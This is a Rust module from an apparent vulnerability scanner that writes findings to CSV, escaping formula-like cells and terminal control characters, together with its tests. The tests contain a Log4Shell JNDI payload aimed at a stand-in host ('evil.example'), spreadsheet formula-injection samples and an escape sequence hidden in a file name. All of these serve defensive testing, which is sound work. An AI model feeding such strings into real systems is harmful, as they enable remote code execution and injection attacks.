//! CSV of findings: one row per finding, for spreadsheets and ticket systems; a log finding
//! has one row per log file, with that file's count of traces. Every row has its own
//! `finding_id` (a ticket system keys on it): a log file's row the hash of the finding's id
//! and the file, stable from run to run.

use praxcheck_i18n::{Catalog, Lang};
use praxcheck_model::Document;

use crate::ReportError;

/// The findings as CSV (header row first; texts in the given language).
///
/// # Errors
/// When the CSV writer fails.
pub fn findings_csv(doc: &Document, lang: Lang) -> Result<String, ReportError> {
    write_csv(std::slice::from_ref(doc), lang, false)
}

/// The findings of several machines as one CSV, with a last column `host`.
///
/// # Errors
/// When the CSV writer fails.
pub fn practice_csv(docs: &[Document], lang: Lang) -> Result<String, ReportError> {
    write_csv(docs, lang, true)
}

/// A cell as a spreadsheet will read it: text that starts like a formula (`=`, `+`, `-`,
/// `@`) gets a leading `'`, so that a component name or version taken from a hostile
/// archive or document cannot run as a formula when the file is opened; control and bidi
/// characters (a file name with `ESC[2J`, a tab or carriage return before a formula) are
/// shown as escapes (`\x1b`), since the CSV is also printed to a terminal (issue 11 item 5).
fn cell(s: &str) -> std::borrow::Cow<'_, str> {
    let v = crate::term::visible(s);
    if v.starts_with(['=', '+', '-', '@']) {
        std::borrow::Cow::Owned(format!("'{v}"))
    } else {
        v
    }
}

fn write_csv(docs: &[Document], lang: Lang, with_host: bool) -> Result<String, ReportError> {
    let mut w = csv::Writer::from_writer(Vec::new());
    let mut header = vec![
        "severity",
        "status",
        "rule_id",
        "component",
        "version",
        "location",
        "title",
        "explanation",
        "remediation",
        "fixed_versions",
        "finding_id",
    ];
    if with_host {
        header.push("host");
    }
    w.write_record(&header)?;
    for doc in docs {
        let by_id: std::collections::HashMap<&str, &praxcheck_model::Component> = doc
            .inventory
            .components
            .iter()
            .map(|c| (c.id.as_str(), c))
            .collect();
        for f in &doc.findings {
            let comp = f
                .subject
                .component
                .as_deref()
                .and_then(|id| by_id.get(id).copied());
            let name = comp.map(|c| c.name.clone()).unwrap_or_default();
            let version = comp
                .map(praxcheck_model::Component::version_display)
                .unwrap_or_default();
            let location = f
                .subject
                .location
                .as_ref()
                .map(|l| l.display.clone())
                .unwrap_or_default();
            let code = lang.code();
            let fixed = f.fixed_versions.join(" ");
            // A log finding: one row per log file with its count (issue 11, item 7).
            let files = if crate::logs::is_log_finding(f) {
                crate::logs::per_file(doc, &Catalog::new(lang))
            } else {
                Vec::new()
            };
            for (file, count) in &files {
                let explanation = format!("{count} – {}", f.explanation.get(code));
                let row_id = praxcheck_model::short_hash(&[f.id.as_bytes(), file.as_bytes()]);
                let mut row = vec![
                    f.severity.as_str(),
                    f.status.as_str(),
                    f.rule_id.as_str(),
                    "",
                    "",
                    file.as_str(),
                    f.title.get(code),
                    explanation.as_str(),
                    f.remediation.get(code),
                    fixed.as_str(),
                    row_id.as_str(),
                ];
                if with_host {
                    row.push(doc.scan.hostname.as_str());
                }
                w.write_record(row.into_iter().map(cell).map(|c| c.into_owned()))?;
            }
            if !files.is_empty() {
                continue;
            }
            let mut row = vec![
                f.severity.as_str(),
                f.status.as_str(),
                f.rule_id.as_str(),
                name.as_str(),
                version.as_str(),
                location.as_str(),
                f.title.get(code),
                f.explanation.get(code),
                f.remediation.get(code),
                fixed.as_str(),
                f.id.as_str(),
            ];
            if with_host {
                row.push(doc.scan.hostname.as_str());
            }
            w.write_record(row.into_iter().map(cell).map(|c| c.into_owned()))?;
        }
    }
    let bytes = w
        .into_inner()
        .map_err(|e| ReportError::Csv(e.into_error().into()))?;
    String::from_utf8(bytes).map_err(|_| ReportError::Utf8)
}

#[cfg(test)]
mod tests {
    use super::{cell, findings_csv};
    use praxcheck_i18n::Lang;
    use praxcheck_model::Document;

    #[test]
    fn every_row_has_its_own_finding_id() {
        let mut doc: Document =
            serde_json::from_str(include_str!("../../assess/tests/fixtures/empfang.json"))
                .expect("fixture");
        let trace = |file: &str, line: u64| {
            serde_json::from_value(serde_json::json!({
                "location": {"chain": [file], "display": file},
                "line": line,
                "level": "payload_seen",
                "payload": "${jndi:ldap://evil.example/a}",
            }))
            .expect("trace")
        };
        doc.inventory.log_evidence = vec![
            trace("/var/log/a.log", 1),
            trace("/var/log/a.log", 7),
            trace("/var/log/b.log", 3),
        ];
        let text = serde_json::json!({"de": "t", "en": "t"});
        let finding = |id: &str, fact: &str| {
            serde_json::from_value(serde_json::json!({
                "id": id, "rule_id": "PRAX-LOG-1", "advisory_id": "PRAX-LOG-1",
                "subject": {"fact": fact},
                "severity": "high", "status": "vulnerable",
                "title": text, "explanation": text, "remediation": text,
            }))
            .expect("finding")
        };
        doc.findings = vec![
            finding("aaaaaaaaaaaaaaaa", "log.evidence"),
            finding("bbbbbbbbbbbbbbbb", "host.other"),
        ];
        let csv = findings_csv(&doc, Lang::En).expect("csv");
        let mut r = csv::Reader::from_reader(csv.as_bytes());
        let col = r
            .headers()
            .expect("header")
            .iter()
            .position(|h| h == "finding_id")
            .expect("finding_id column");
        let ids: Vec<String> = r
            .records()
            .map(|rec| rec.expect("row")[col].to_owned())
            .collect();
        // Two log files and one other finding: three rows, three ids, stable per file.
        assert_eq!(ids.len(), 3, "{csv}");
        let unique: std::collections::BTreeSet<&String> = ids.iter().collect();
        assert_eq!(unique.len(), 3, "{csv}");
        assert!(ids.contains(&"bbbbbbbbbbbbbbbb".to_owned()), "{csv}");
        assert_eq!(findings_csv(&doc, Lang::En).expect("csv"), csv);
    }

    #[test]
    fn cells_that_look_like_formulas_are_quoted() {
        for bad in ["=HYPERLINK(\"x\")", "+1", "-2+3", "@SUM(A1)"] {
            assert_eq!(cell(bad), format!("'{bad}"));
        }
        // Controls are shown, not sent (a formula behind them stays inert text).
        assert_eq!(cell("\t=1"), "\\t=1");
        assert_eq!(cell("\r@x"), "\\r@x");
        assert_eq!(cell("app\u{1b}[2J.log"), "app\\x1b[2J.log");
        assert_eq!(cell("a\u{202e}b"), "a\\u{202e}b");
        for ok in ["2.14.1", "log4j-core", "", "CVE-2021-44228"] {
            assert_eq!(cell(ok), ok);
        }
    }
}
